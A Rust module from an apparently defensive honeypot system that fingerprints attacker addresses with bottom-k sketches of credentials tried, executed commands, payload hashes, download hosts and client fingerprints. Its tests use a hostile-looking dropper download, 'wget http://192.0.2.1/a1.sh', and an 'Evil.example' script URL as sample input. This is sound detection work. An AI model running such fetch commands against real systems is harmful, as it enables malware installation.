//! What an address can be recognised by. Of each kind a bounded number is kept, those with the least hashes: the
//! same of the same values in whatever order they come, and of two large sets as many in common as the sets have
//! (bottom-k sketches: Broder, "On the resemblance and containment of documents", 1997).

use super::{said, shown, tool};
use crate::{incident, listed, sketch::hash};
use decnet_model::record::{EventRow, Stage, Trait, TraitKind};
use netsvc_wire::{Kind, Meaning, field, stamp::Micros};
use std::{collections::BTreeMap, net::IpAddr};

/// Bytes of a value that are shown.
const VALUE: usize = 80;
/// Bytes of a payload from which on it tells anything: an empty file is nobody's.
const TELLING: u64 = 64;
/// Characters of a command from which on it tells anything.
const COMMAND: usize = 12;
/// Longest command that is looked at, in bytes.
const LOOKED: usize = 2048;

/// How many of a kind are kept.
fn most(kind: TraitKind) -> usize {
    match kind {
        TraitKind::Pair | TraitKind::Command => 16,
        TraitKind::Key | TraitKind::Payload | TraitKind::Host | TraitKind::Principal | TraitKind::Loot => 8,
        TraitKind::Mail | TraitKind::Ssh | TraitKind::Tls | TraitKind::Web | TraitKind::Client => 4,
        TraitKind::Network | TraitKind::Rhythm | TraitKind::Spread | TraitKind::Concert => 1,
    }
}

/// Traits of one address.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Traits(BTreeMap<TraitKind, BTreeMap<u64, (String, Micros)>>);

impl Traits {
    /// Those that were stored. The rhythm is made anew.
    pub(super) fn of(list: Vec<Trait>) -> Self {
        let mut traits = Traits::default();
        for one in list.into_iter().filter(|one| one.kind != TraitKind::Rhythm) {
            traits.0.entry(one.kind).or_default().insert(one.hash, (one.value, one.since));
        }
        traits
    }

    /// All of them, with the rhythm if there is one.
    pub(super) fn list(&self, rhythm: Option<String>, since: Micros) -> Vec<Trait> {
        let of_kind = |(kind, values): (&TraitKind, &BTreeMap<u64, (String, Micros)>)| {
            let kind = *kind;
            let one = |(hash, (value, since)): (&u64, &(String, Micros))| Trait {
                kind,
                hash: *hash,
                value: value.clone(),
                since: *since,
            };
            values.iter().map(one).collect::<Vec<_>>()
        };
        let mut list: Vec<Trait> = self.0.iter().flat_map(of_kind).collect();
        list.extend(rhythm.map(|value| Trait {
            kind: TraitKind::Rhythm,
            hash: hash(&[value.as_bytes()]),
            value,
            since,
        }));
        list
    }

    fn add(&mut self, kind: TraitKind, parts: &[&[u8]], value: impl FnOnce() -> String, at: Micros) {
        let hash = hash(parts);
        let known = self.0.entry(kind).or_default();
        if let Some((_, since)) = known.get_mut(&hash) {
            *since = (*since).min(at);
            return;
        }
        let full = most(kind) <= known.len();
        if full && known.last_key_value().is_some_and(|(last, _)| *last < hash) {
            return;
        }
        known.insert(hash, (value(), at));
        if full {
            known.pop_last();
        }
    }

    fn whole(&mut self, kind: TraitKind, value: Option<&[u8]>, at: Micros) {
        if let Some(value) = value.filter(|value| !value.is_empty()) {
            self.add(kind, &[value], || shown(value, VALUE), at);
        }
    }

    /// The network of an address: of IPv4 the /24, of IPv6 the /48. Networks of private use are everybody's.
    pub(super) fn network(&mut self, address: IpAddr, at: Micros) {
        let network = match address {
            IpAddr::V4(v4) if v4.is_private() || v4.is_loopback() || v4.is_link_local() => return,
            IpAddr::V4(v4) => {
                let [a, b, c, _] = v4.octets();
                format!("{a}.{b}.{c}.0/24")
            }
            IpAddr::V6(v6) if v6.is_loopback() || v6.is_unique_local() || v6.is_unicast_link_local() => {
                return;
            }
            IpAddr::V6(v6) => {
                let [a, b, c, ..] = v6.segments();
                format!("{a:x}:{b:x}:{c:x}::/48")
            }
        };
        self.whole(TraitKind::Network, Some(network.as_bytes()), at);
    }

    /// What an event tells.
    pub(super) fn learn(&mut self, row: &EventRow, kind: Kind) {
        let at = row.at;
        match kind.meaning() {
            Meaning::Secret => self.login(row),
            Meaning::Key => self.whole(TraitKind::Key, row.field(field::KEY_SHA256), at),
            Meaning::Payload | Meaning::Mail => {
                if row.number_field::<u64>(field::SIZE).is_some_and(|size| TELLING <= size) {
                    self.whole(TraitKind::Payload, row.field(field::SHA256), at);
                }
                self.domain(row);
            }
            Meaning::Deed => {
                if let Some(host) = row.text(field::URL).and_then(host) {
                    self.host(&host, row);
                }
                self.domain(row);
            }
            Meaning::Command => {
                let executed = incident::stage(kind, &row.service, false) == Stage::Executed;
                if let Some(text) = said(row).filter(|_| executed) {
                    self.command(text, row);
                }
                self.client(row);
            }
            Meaning::Client | Meaning::Contact => self.client(row),
            Meaning::Own
            | Meaning::Opened
            | Meaning::Closed
            | Meaning::Session
            | Meaning::Recording
            | Meaning::Packets
            | Meaning::Flood => {}
        }
    }

    fn login(&mut self, row: &EventRow) {
        let clear = row.text(field::SECRET_KIND).is_none_or(|kind| kind == "plaintext");
        let name = row.field(field::PRINCIPAL).unwrap_or_default();
        let secret = row.field(field::SECRET_PRINTABLE).filter(|_| clear);
        let known = |secret: &[u8]| {
            listed::pair(&String::from_utf8_lossy(name), &String::from_utf8_lossy(secret)).is_some()
        };
        let secret = secret.filter(|secret| !known(secret));
        let both = |secret| format!("{} / {}", shown(name, VALUE / 2), shown(secret, VALUE / 2));
        // What works on a decky can be found there, or be passed on: it is shared by those who work together.
        if let Some(secret) = secret.filter(|_| incident::let_in(row)) {
            let value = || format!("{} on {}", both(secret), shown(row.node.as_bytes(), 40));
            self.add(TraitKind::Loot, &[row.node.as_bytes(), name, secret], value, row.at);
            return;
        }
        if let Some(secret) = secret {
            self.add(TraitKind::Pair, &[name, secret], || both(secret), row.at);
        }
        let name = String::from_utf8_lossy(name).trim().to_lowercase();
        if !listed::name(&name) {
            self.whole(TraitKind::Principal, Some(name.as_bytes()), row.at);
        }
    }

    fn client(&mut self, row: &EventRow) {
        let at = row.at;
        self.whole(TraitKind::Ssh, row.field(field::HASSH), at);
        self.whole(TraitKind::Tls, row.field(field::JA4).or_else(|| row.field(field::JA3)), at);
        let web = row.field(field::HTTP2_FINGERPRINT).or_else(|| row.field(field::HEADER_HASH));
        self.whole(TraitKind::Web, web, at);
        for name in [field::CLIENT_VERSION, field::USER_AGENT] {
            let own = row.field(name).filter(|value| !tool::is_known(name, value));
            self.whole(TraitKind::Client, own, at);
        }
        if row.service.starts_with("smtp") {
            self.whole(TraitKind::Mail, row.field(field::CLIENT_NAME), at);
        }
    }

    fn domain(&mut self, row: &EventRow) {
        let sender = row.text(field::MAIL_FROM).and_then(|sender| sender.rsplit_once('@'));
        if let Some((_, domain)) = sender {
            let domain = domain.trim_end_matches('>').to_lowercase();
            self.whole(TraitKind::Mail, Some(domain.as_bytes()), row.at);
        }
    }

    /// A host that something was to be fetched from.
    fn host(&mut self, host: &str, row: &EventRow) {
        self.whole(TraitKind::Host, Some(host.as_bytes()), row.at);
        let address = host.parse::<IpAddr>().map(|address| address.to_canonical());
        if address.is_ok_and(|address| row.src_ip.is_some_and(|own| own.to_canonical() == address)) {
            self.whole(TraitKind::Spread, Some(b"from its own address"), row.at);
        }
    }

    fn command(&mut self, text: &[u8], row: &EventRow) {
        let text = String::from_utf8_lossy(text.get(..LOOKED).unwrap_or(text));
        for url in
            text.split([' ', '\'', '"', ';', '|', '&', '\n', '(', ')']).filter(|word| word.contains("://"))
        {
            if let Some(host) = host(url) {
                self.host(&host, row);
            }
        }
        let plain = plain(&text);
        if COMMAND <= plain.len() {
            self.add(TraitKind::Command, &[plain.as_bytes()], || shown(plain.as_bytes(), VALUE), row.at);
        }
    }
}

/// A command without what differs each time: runs of digits, addresses and white space.
fn plain(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let (mut number, mut space) = (false, false);
    for character in text.trim().chars() {
        let digit = character.is_ascii_digit() || number && character == '.';
        let blank = character.is_whitespace();
        match () {
            () if digit && !number => plain.push('#'),
            () if blank && !space => plain.push(' '),
            () if !digit && !blank => plain.push(character),
            () => {}
        }
        (number, space) = (digit, blank);
    }
    plain
}

/// The host of a URL, in lower case.
fn host(url: &str) -> Option<String> {
    let (_, rest) = url.split_once("://")?;
    let place = rest.split(['/', '?', '#']).next()?;
    let place = place.rsplit_once('@').map_or(place, |(_, place)| place);
    let host = match place.strip_prefix('[') {
        Some(inside) => inside.split(']').next()?,
        None => place.split(':').next()?,
    };
    let host = host.trim().to_lowercase();
    (!host.is_empty() && host.len() <= 253).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_and_commands_are_what_stays_the_same() {
        for (url, expected) in [
            ("http://Evil.example/x.sh", Some("evil.example")),
            ("ftp://u:p@192.0.2.1:21/x", Some("192.0.2.1")),
            ("http://[2001:db8::1]:80/", Some("2001:db8::1")),
            ("http:///x", None),
            ("x", None),
        ] {
            assert_eq!(host(url).as_deref(), expected, "{url}");
        }
        assert_eq!(plain("  wget   http://192.0.2.1/a1.sh -O /tmp/x99 "), "wget http://#/a#sh -O /tmp/x#");
    }

    #[test]
    fn the_order_of_what_comes_makes_no_difference() {
        let values: Vec<String> = (0..200).map(|number| format!("value {number}")).collect();
        let (mut one, mut two) = (Traits::default(), Traits::default());
        values.iter().for_each(|value| one.whole(TraitKind::Key, Some(value.as_bytes()), 5));
        values.iter().rev().for_each(|value| two.whole(TraitKind::Key, Some(value.as_bytes()), 5));
        assert_eq!(one, two);
        assert_eq!(one.list(None, 0).len(), most(TraitKind::Key));
        assert_eq!(Traits::of(one.list(Some("x".into()), 0)), one);
    }
}
